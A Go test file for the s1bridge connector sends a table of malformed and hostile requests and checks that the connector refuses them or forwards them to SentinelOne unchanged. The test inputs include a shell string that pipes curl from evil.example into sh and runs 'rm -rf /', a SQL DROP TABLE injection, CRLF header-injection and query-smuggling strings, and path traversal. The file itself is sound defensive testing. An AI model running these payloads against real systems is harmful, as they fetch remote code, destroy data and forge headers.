package hostile_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/s1bridge/s1bridge/connector"
	"github.com/s1bridge/s1bridge/connector/ce"
	"github.com/s1bridge/s1bridge/emulator"
	"github.com/s1bridge/s1bridge/handlers"
	"github.com/s1bridge/s1bridge/internal/testenv"
	"github.com/s1bridge/s1bridge/subjects"
)

// Values the cases use.
const (
	sha1Hash  = "3395856ce81f2b7382dee72602f798b642f14140"
	agentID   = "1559342436290084702" // well-formed; the emulator need not have it
	threatID  = "1938475610293847561"
	shellText = "$(curl -s http://evil.example/x | sh); `reboot`; rm -rf / #"
	sqlText   = "' OR '1'='1'; DROP TABLE agents; --"
	// urlText tries to smuggle query parameters and a fragment into the
	// console URL.
	urlText = "x&limit=1000&ids=1&evil=1#frag %2526 ?q=\\"
	// callTimeout bounds one case's request-reply.
	callTimeout = 10 * time.Second
)

// upstream says what a case may cause at SentinelOne.
type upstream int

const (
	// none: the request must be refused before SentinelOne is called.
	none upstream = iota
	// some: the request is valid (or refused by SentinelOne itself), so at
	// least one call is made.
	some
)

// hostileCase is one malformed or hostile request.
type hostileCase struct {
	name string
	// msg builds the request; subject defaults to console main's action.
	msg func(t *testing.T) *nats.Msg
	// code is the contract code the reply must carry; 200 means success.
	code int
	// upstream says whether SentinelOne may be called.
	upstream upstream
	// sent, when set, checks what SentinelOne received (upstream some).
	sent func(t *testing.T, reqs []emulator.Request)
	// clientErr, when set, is the error the NATS client itself returns:
	// the request never gets a reply.
	clientErr error
	// reply, when set, checks more of the reply.
	reply func(t *testing.T, reply *nats.Msg)
}

func TestHostileRequests(t *testing.T) {
	env := testenv.Start(t, nil)
	nc := env.NC

	// A normal request first: it opens the pooled connection to the
	// emulator and starts whatever runs lazily, so that the goroutine
	// count below is the steady state.
	mustServe(t, env)
	settle()
	goroutines := runtime.NumGoroutine()

	cases := hostileCases(env)
	if len(cases) < 40 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := tc.msg(t)
			if m.Subject == "" {
				t.Fatal("case builds no subject")
			}
			before := len(env.Emu.Requests())
			beforeCount := totalRequests(env.Emu)
			reply, err := nc.RequestMsg(m, callTimeout)
			after := env.Emu.Requests()
			calls := totalRequests(env.Emu) - beforeCount

			switch {
			case tc.clientErr != nil:
				if !errors.Is(err, tc.clientErr) {
					t.Fatalf("request error = %v, want %v", err, tc.clientErr)
				}
			case err != nil:
				t.Fatalf("request: %v", err)
			default:
				checkReply(t, m, reply, tc.code)
				if tc.reply != nil {
					tc.reply(t, reply)
				}
			}

			switch tc.upstream {
			case none:
				if calls != 0 {
					t.Fatalf("%d call(s) reached SentinelOne, want none: %s", calls, describe(after[min(before, len(after)):]))
				}
			case some:
				if calls == 0 {
					t.Fatalf("no call reached SentinelOne; the case does not test what it says")
				}
				if tc.sent != nil {
					tc.sent(t, after[min(before, len(after)):])
				}
			}
		})
	}

	// The process still serves, and holds no more goroutines than before
	// the table beyond a small slack (idle HTTP and NATS connections come
	// and go).
	mustServe(t, env)
	const slack = 10
	deadline := time.Now().Add(5 * time.Second)
	for {
		n := runtime.NumGoroutine()
		if n <= goroutines+slack {
			t.Logf("%d cases; goroutines %d before, %d after", len(cases), goroutines, n)
			break
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			t.Fatalf("goroutines grew from %d to %d:\n%s", goroutines, n, buf[:runtime.Stack(buf, true)])
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// hostileCases is the table. Each case says which action it addresses,
// what it sends, the code it must get and whether SentinelOne may be
// called.
func hostileCases(env *testenv.Env) []hostileCase {
	subj := func(action string) string { return env.Connector.Subjects().Action("main", action) }
	// bin is a valid binary-mode request of action with data, after edit
	// changed its headers (ce.Encode has percent-encoded them; edit sets
	// raw values).
	bin := func(action, data string, edit func(h nats.Header)) func(*testing.T) *nats.Msg {
		return func(t *testing.T) *nats.Msg {
			return binaryMsg(t, subj(action), action, []byte(data), edit)
		}
	}
	body := func(action, data string) func(*testing.T) *nats.Msg { return bin(action, data, nil) }
	bigBody := func(action string, data func() []byte) func(*testing.T) *nats.Msg {
		return func(t *testing.T) *nats.Msg { return binaryMsg(t, subj(action), action, data(), nil) }
	}
	structured := func(action, payload string) func(*testing.T) *nats.Msg {
		return func(*testing.T) *nats.Msg {
			m := nats.NewMsg(subj(action))
			m.Header.Set(subjects.HeaderContentType, subjects.ContentTypeCloudEvent)
			m.Data = []byte(payload)
			return m
		}
	}
	raw := func(action string, header nats.Header, data string) func(*testing.T) *nats.Msg {
		return func(*testing.T) *nats.Msg {
			return &nats.Msg{Subject: subj(action), Header: header, Data: []byte(data)}
		}
	}
	setHeader := func(name, value string) func(nats.Header) {
		return func(h nats.Header) { h[name] = []string{value} }
	}
	delHeader := func(name string) func(nats.Header) {
		return func(h nats.Header) { delete(h, name) }
	}
	ids := func(n int, id string) string {
		return `[` + strings.Repeat(`"`+id+`",`, n-1) + `"` + id + `"]`
	}
	nested := func(depth int) string {
		return `{"ids":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}`
	}
	ceEvent := func(action, extra string) string {
		return `{"specversion":"1.0","id":"hostile-s","source":"/hostile","type":"` + subjects.RequestType(action) + `"` + extra + `}`
	}
	list := handlers.ActionAgentsList

	return []hostileCase{
		// Wrong JSON types, one per field kind.
		{name: "int field as string", msg: body(list, `{"limit":"10"}`), code: 400},
		{name: "int field as float", msg: body(list, `{"limit":1.5}`), code: 400},
		{name: "int field as exponent", msg: body(list, `{"limit":1e2}`), code: 400},
		{name: "int field overflowing int64", msg: body(list, `{"limit":9223372036854775808}`), code: 400},
		{name: "bool field as string", msg: body(list, `{"isActive":"yes"}`), code: 400},
		{name: "bool field as number", msg: body(list, `{"isActive":1}`), code: 400},
		{name: "string field as object (NoSQL operator)", msg: body(list, `{"computerName":{"$ne":""}}`), code: 400},
		{name: "string field as array", msg: body(handlers.ActionThreatsUpdate, `{"threatIds":["`+threatID+`"],"incidentStatus":["resolved"]}`), code: 400},
		{name: "list field as string", msg: body(list, `{"ids":"`+agentID+`"}`), code: 400},
		{name: "id list with a number", msg: body(handlers.ActionAgentsConnect, `{"agentIds":[`+agentID+`]}`), code: 400},
		{name: "int list with strings", msg: body(handlers.ActionActivitiesList, `{"activityTypes":["27"]}`), code: 400},
		{name: "object field as string", msg: body(handlers.ActionBlocklistAdd, `{"hash":"`+sha1Hash+`","scope":"tenant"}`), code: 400},
		{name: "body is an array", msg: body(list, `[{"limit":1}]`), code: 400},
		{name: "body is a string", msg: body(list, `"limit=1"`), code: 400},

		// Sizes.
		{name: "5001 ids", msg: body(list, `{"ids":`+ids(5001, agentID)+`}`), code: 400},
		{name: "5001 threatIds on a mutating action", msg: body(handlers.ActionThreatsUpdate, `{"threatIds":`+ids(5001, threatID)+`,"incidentStatus":"resolved"}`), code: 400},
		{name: "501 siteIds", msg: body(list, `{"siteIds":`+ids(501, agentID)+`}`), code: 400},
		{name: "huge activityTypes list", msg: bigBody(handlers.ActionActivitiesList, func() []byte {
			var b bytes.Buffer
			b.WriteString(`{"activityTypes":[`)
			for i := 1; i <= 20000; i++ {
				if i > 1 {
					b.WriteByte(',')
				}
				b.WriteString(strconv.Itoa(i))
			}
			b.WriteString(`]}`)
			return b.Bytes()
		}), code: 400},
		{name: "501 classifications", msg: body(handlers.ActionThreatsList, `{"classifications":`+ids(501, "Malware")+`}`), code: 400},
		{name: "7.9 MB id (under the NATS max payload)", msg: bigBody(list, func() []byte {
			return []byte(`{"ids":["` + strings.Repeat("9", 8<<20-8<<10) + `"]}`)
		}), code: 400},
		{name: "2 MB filter text", msg: bigBody(list, func() []byte {
			return []byte(`{"query":"` + strings.Repeat("a", 2<<20) + `"}`)
		}), code: 400},
		{name: "10 MB payload (over the NATS max payload)", msg: bigBody(list, func() []byte {
			return []byte(`{"query":"` + strings.Repeat("a", 10<<20) + `"}`)
		}), clientErr: nats.ErrMaxPayload},

		// Limits, cursors, ids.
		{name: "negative limit", msg: body(list, `{"limit":-1}`), code: 400},
		{name: "zero limit", msg: body(list, `{"limit":0}`), code: 400},
		{name: "limit 1001", msg: body(list, `{"limit":1001}`), code: 400},
		{name: "cursor garbage (SentinelOne refuses it)", msg: body(handlers.ActionThreatsList, `{"cursor":"!!not-a-cursor!!"}`), code: 400, upstream: some},
		{name: "cursor with a newline", msg: body(list, `{"cursor":"YWJj\nHost: evil"}`), code: 400},
		{name: "cursor of 5000 bytes", msg: body(list, `{"cursor":"`+strings.Repeat("A", 5000)+`"}`), code: 400},
		{name: "monitors.list cursor garbage", msg: body(handlers.ActionMonitorsList, `{"cursor":"garbage"}`), code: 400},
		{name: "non-numeric id", msg: body(list, `{"ids":["abc"]}`), code: 400},
		{name: "short id", msg: body(list, `{"ids":["123"]}`), code: 400},
		{name: "negative id", msg: body(handlers.ActionAgentsDisconnect, `{"agentIds":["-`+agentID+`"]}`), code: 400},
		{name: "id over uint64", msg: body(list, `{"ids":["123456789012345678901234567890"]}`), code: 400},
		{name: "empty id", msg: body(list, `{"ids":[""]}`), code: 400},
		{name: "empty agentIds on disconnect (would act on every agent)", msg: body(handlers.ActionAgentsDisconnect, `{"agentIds":[]}`), code: 400},
		{name: "hash with path traversal", msg: body(handlers.ActionHashReputation, `{"hash":"../../system/info"}`), code: 400},
		{name: "monitorId with subject wildcards", msg: body(handlers.ActionMonitorsCancel, `{"monitorId":"a.>"}`), code: 400},
		{name: "monitor timeout over a year", msg: body(handlers.ActionThreatsMonitor, `{"threatId":"`+threatID+`","timeout":"10000h"}`), code: 400},

		// Bodies that are not one JSON object.
		{name: "null body on an action with required fields", msg: body(handlers.ActionAgentsConnect, `null`), code: 400},
		{name: "null body on a list (read as {})", msg: body(list, `null`), code: 200, upstream: some},
		{name: "trailing garbage", msg: body(list, `{"limit":5} x`), code: 400},
		{name: "two objects", msg: body(list, `{"limit":5}{"limit":6}`), code: 400},
		{name: "nesting beyond the JSON parser's depth", msg: body(list, nested(20000)), code: 400},
		{name: "deep nesting inside a typed field", msg: body(list, nested(5000)), code: 400},
		{name: "duplicate member", msg: body(list, `{"limit":1000,"limit":5}`), code: 400},
		{name: "duplicate member in a nested object", msg: body(handlers.ActionBlocklistAdd, `{"hash":"`+sha1Hash+`","scope":{"siteIds":["`+agentID+`"],"siteIds":["`+threatID+`"]}}`), code: 400},
		{name: "member name differing in case", msg: body(list, `{"Limit":5}`), code: 400},
		{name: "member name with CRLF and a forged error header", msg: body(list, `{"x\r\nNats-Service-Error-Code: 200\r\n\r\n":1}`), code: 400,
			reply: func(t *testing.T, reply *nats.Msg) {
				if vs := reply.Header.Values(subjects.HeaderErrorCode); len(vs) != 1 || vs[0] != "400" {
					t.Fatalf("%s = %q: the member name was written into the headers", subjects.HeaderErrorCode, vs)
				}
			}},
		{name: "unknown member", msg: body(list, `{"limit":5,"isAdmin":true}`), code: 400},
		{name: "control character in a filter", msg: body(list, `{"computerName":"a\u0000b"}`), code: 400},

		// Text that must reach SentinelOne as data.
		{name: "shell text in a filter", msg: body(list, `{"computerName":`+quote(shellText)+`}`), code: 200, upstream: some,
			sent: queryHas("computerName", shellText)},
		{name: "SQL text in a filter", msg: body(handlers.ActionThreatsList, `{"query":`+quote(sqlText)+`}`), code: 200, upstream: some,
			sent: queryHas("query", sqlText)},
		{name: "URL syntax in a filter", msg: body(list, `{"query":`+quote(urlText)+`}`), code: 200, upstream: some,
			sent: func(t *testing.T, reqs []emulator.Request) {
				queryHas("query", urlText)(t, reqs)
				q := lastQuery(t, reqs)
				if q.Get("limit") != strconv.Itoa(handlers.DefaultLimit) || q.Has("evil") || q.Has("ids") {
					t.Fatalf("filter text became query parameters: %v", q)
				}
			}},
		{name: "shell text in a mutation body", msg: body(handlers.ActionBlocklistAdd, `{"hash":"`+sha1Hash+`","osTypes":["linux"],"description":`+quote(shellText+sqlText)+`}`),
			code: 200, upstream: some, sent: func(t *testing.T, reqs []emulator.Request) {
				for _, r := range reqs {
					var b struct {
						Data struct {
							Description string `json:"description"`
						} `json:"data"`
					}
					if r.Method == "POST" && json.Unmarshal(r.Body, &b) == nil && b.Data.Description == shellText+sqlText {
						return
					}
				}
				t.Fatalf("no POST carried the description unchanged: %s", describe(reqs))
			}},

		// CloudEvents headers.
		{name: "binary without ce-id", msg: bin(list, `{}`, delHeader("ce-id")), code: 400},
		{name: "binary without ce-type", msg: bin(list, `{}`, delHeader("ce-type")), code: 400},
		{name: "binary without ce-source", msg: bin(list, `{}`, delHeader("ce-source")), code: 400},
		{name: "specversion 0.3", msg: bin(list, `{}`, setHeader("ce-specversion", "0.3")), code: 400},
		{name: "ce-id given twice", msg: bin(list, `{}`, func(h nats.Header) { h["CE-ID"] = []string{"other"} }), code: 400},
		{name: "invalid UTF-8 in a header", msg: bin(list, `{}`, setHeader("ce-subject", "caf\xe9\xff")), code: 400},
		{name: "percent-encoded invalid UTF-8", msg: bin(list, `{}`, setHeader("ce-id", "req-%FF%FE")), code: 400},
		{name: "malformed percent-encoding", msg: bin(list, `{}`, setHeader("ce-source", "/soar/%zz")), code: 400},
		{name: "truncated percent-encoding", msg: bin(list, `{}`, setHeader("ce-id", "req-%4")), code: 400},
		{name: "percent-encoded newline (header injection)", msg: bin(list, `{}`, setHeader("ce-source", "/soar%0D%0ANats-Service-Error-Code:%20200")), code: 400},
		{name: "extension name with a dash", msg: bin(list, `{}`, setHeader("ce-x-evil", "1")), code: 400},
		{name: "ce-type naming another action", msg: bin(handlers.ActionAgentsConnect, `{"agentIds":["`+agentID+`"]}`,
			setHeader("ce-type", subjects.RequestType(handlers.ActionAgentsDisconnect))), code: 400},
		{name: "ce-type a response type", msg: bin(list, `{}`, setHeader("ce-type", subjects.ResponseType(list))), code: 400},
		{name: "ce-type outside the s1bridge namespace (accepted)", msg: bin(list, `{"limit":1}`, setHeader("ce-type", "com.example.soar.request")), code: 200, upstream: some},
		{name: "past expirytime", msg: bin(handlers.ActionAgentsDisconnect, `{"agentIds":["`+agentID+`"]}`,
			setHeader("ce-expirytime", time.Now().Add(-time.Minute).UTC().Format(time.RFC3339))), code: 408},
		{name: "expirytime not a timestamp", msg: bin(list, `{}`, setHeader("ce-expirytime", "tomorrow")), code: 400},
		{name: "time not a timestamp", msg: bin(list, `{}`, setHeader("ce-time", "2024-13-45T99:00:00Z")), code: 400},
		{name: "binary data with a non-JSON Content-Type", msg: bin(list, `{}`, setHeader(subjects.HeaderContentType, "text/plain")), code: 400},
		{name: "plain request with an XML Content-Type", msg: raw(list, nats.Header{subjects.HeaderContentType: {"application/xml"}}, `<limit>1</limit>`), code: 400},
		{name: "plain request that is not JSON", msg: raw(list, nil, `limit=1`), code: 400},

		// Structured mode.
		{name: "structured batch format", msg: func(t *testing.T) *nats.Msg {
			m := structured(list, `[`+ceEvent(list, "")+`]`)(t)
			m.Header.Set(subjects.HeaderContentType, "application/cloudevents-batch+json")
			return m
		}, code: 400},
		{name: "structured in an unsupported event format", msg: func(t *testing.T) *nats.Msg {
			m := structured(list, `<event/>`)(t)
			m.Header.Set(subjects.HeaderContentType, "application/cloudevents+xml")
			return m
		}, code: 400},
		{name: "structured malformed JSON", msg: structured(list, `{"specversion":"1.0","id":`), code: 400},
		{name: "structured not an object", msg: structured(list, `["specversion","1.0"]`), code: 400},
		{name: "structured data not JSON (text/plain)", msg: structured(list, ceEvent(list, `,"datacontenttype":"text/plain","data":"limit=1"`)), code: 400},
		{name: "structured data_base64 not JSON", msg: structured(list, ceEvent(list, `,"data_base64":"`+base64.StdEncoding.EncodeToString([]byte("limit=1"))+`"`)), code: 400},
		{name: "structured data and data_base64", msg: structured(list, ceEvent(list, `,"data":{},"data_base64":"e30="`)), code: 400},
		{name: "structured attribute twice", msg: structured(list, ceEvent(list, `,"type":"`+subjects.RequestType(handlers.ActionAgentsDisconnect)+`"`)), code: 400},
		{name: "structured extension twice, once null", msg: structured(list, ceEvent(list, `,"expirytime":"2000-01-01T00:00:00Z","expirytime":null`)), code: 400},
		{name: "structured type naming another action", msg: structured(handlers.ActionAgentsConnect, strings.Replace(ceEvent(handlers.ActionAgentsDisconnect, `,"data":{"agentIds":["`+agentID+`"]}`), "hostile-s", "hostile-s2", 1)), code: 400},
		{name: "structured invalid data in a valid event", msg: structured(list, ceEvent(list, `,"data":{"limit":"all"}`)), code: 400},

		// Nothing serves these.
		{name: "unknown console", msg: func(t *testing.T) *nats.Msg {
			return binaryMsg(t, env.Connector.Subjects().Action("nope", list), list, []byte(`{}`), nil)
		}, clientErr: nats.ErrNoResponders},
		{name: "unknown action", msg: func(t *testing.T) *nats.Msg {
			return binaryMsg(t, subj("agents.nuke"), "agents.nuke", []byte(`{}`), nil)
		}, clientErr: nats.ErrNoResponders},
	}
}

// binaryMsg is a binary-mode request of action on subject with data and a
// 10 s expirytime, its headers then changed by edit.
func binaryMsg(t *testing.T, subject, action string, data []byte, edit func(nats.Header)) *nats.Msg {
	t.Helper()
	ev := ce.Event{
		ID: "hostile-" + ce.NewID(), Source: "/hostile", Type: subjects.RequestType(action),
		Time: time.Now().UTC(), DataContentType: subjects.ContentTypeJSON, Data: data,
		Extensions: map[string]string{subjects.ExtExpiryTime: time.Now().Add(callTimeout).UTC().Format(time.RFC3339Nano)},
	}
	h, payload, err := ce.Encode(ev, ce.ModeBinary)
	if err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(h)
	}
	return &nats.Msg{Subject: subject, Header: h, Data: payload}
}

// checkReply checks a reply against the code a case wants: the micro error
// headers, the s1bridge.error event and its data, the request's mode, and
// the correlation id.
func checkReply(t *testing.T, req, reply *nats.Msg, code int) {
	t.Helper()
	r, err := connector.ParseReply(reply)
	if err != nil {
		t.Fatalf("unreadable reply: %v\nheaders %v\ndata %.300s", err, reply.Header, reply.Data)
	}
	ct, _, _ := strings.Cut(req.Header.Get(subjects.HeaderContentType), ";")
	if structured := strings.EqualFold(strings.TrimSpace(ct), subjects.ContentTypeCloudEvent); structured != (r.Event.Mode == ce.ModeStructured) {
		t.Errorf("reply mode %v for a request with Content-Type %q", r.Event.Mode, ct)
	}
	// A request the codec reads has its id echoed; one it refuses gets a
	// reply without correlationid (ce.Decode keeps only the mode of an
	// event it refuses).
	if ev, err := ce.Decode(req.Header, req.Data); err == nil && ev.Mode != ce.ModePlain && r.Event.CorrelationID() != ev.ID {
		t.Errorf("correlationid = %q, want the request's id %q", r.Event.CorrelationID(), ev.ID)
	}
	hdr := reply.Header.Get(subjects.HeaderErrorCode)
	if code == 200 {
		if r.Err != nil || hdr != "" {
			t.Fatalf("error reply %s %q, want success", hdr, reply.Header.Get(subjects.HeaderError))
		}
		return
	}
	if hdr != strconv.Itoa(code) || r.Err == nil || r.Err.Code != code {
		t.Fatalf("%s = %q (%q), want %d", subjects.HeaderErrorCode, hdr, reply.Header.Get(subjects.HeaderError), code)
	}
	if r.Event.Type != subjects.TypeError {
		t.Errorf("reply type %q, want %q", r.Event.Type, subjects.TypeError)
	}
	var d handlers.Data
	if err := json.Unmarshal(r.Event.Data, &d); err != nil || d.Code != code || d.Message == "" || d.Retryable {
		t.Errorf("error data %.300s (%v): want code %d, a message, retryable false", r.Event.Data, err, code)
	}
	if msg := reply.Header.Get(subjects.HeaderError); msg == "" || len(msg) > 4096 {
		t.Errorf("%s is %d bytes, want a short message", subjects.HeaderError, len(msg))
	}
}

// mustServe makes a normal request and fails t unless it succeeds.
func mustServe(t *testing.T, env *testenv.Env) {
	t.Helper()
	r := env.Call(t, handlers.ActionAgentsList, `{"limit":2}`)
	if r.Err != nil {
		t.Fatalf("a normal request fails: %v", r.Err)
	}
	var lr struct {
		Items []json.RawMessage `json:"items"`
	}
	if err := json.Unmarshal(r.Event.Data, &lr); err != nil || len(lr.Items) == 0 {
		t.Fatalf("a normal request gives %s (%v)", r.Event.Data, err)
	}
}

// settle waits for start-up work (leases, first polls) to go quiet.
func settle() { time.Sleep(200 * time.Millisecond) }

func totalRequests(e *emulator.Emulator) int {
	n := 0
	for _, c := range e.RequestCounts() {
		n += c
	}
	return n
}

// queryHas checks that some request carried param with exactly value.
func queryHas(param, value string) func(*testing.T, []emulator.Request) {
	return func(t *testing.T, reqs []emulator.Request) {
		t.Helper()
		for _, r := range reqs {
			q, err := url.ParseQuery(r.RawQuery)
			if err != nil {
				t.Fatalf("SentinelOne got a query it cannot parse: %q: %v", r.RawQuery, err)
			}
			for k, vs := range q {
				if strings.HasPrefix(k, param) {
					for _, v := range vs {
						if v == value {
							return
						}
					}
				}
			}
		}
		t.Fatalf("no request carried %s=%q: %s", param, value, describe(reqs))
	}
}

// lastQuery is the query of the last request.
func lastQuery(t *testing.T, reqs []emulator.Request) url.Values {
	t.Helper()
	if len(reqs) == 0 {
		t.Fatal("no request")
	}
	q, err := url.ParseQuery(reqs[len(reqs)-1].RawQuery)
	if err != nil {
		t.Fatal(err)
	}
	return q
}

func describe(reqs []emulator.Request) string {
	var b strings.Builder
	for _, r := range reqs {
		q := r.RawQuery
		if len(q) > 200 {
			q = q[:200] + "…"
		}
		fmt.Fprintf(&b, "\n  %s %s?%s", r.Method, r.Path, q)
	}
	return b.String()
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
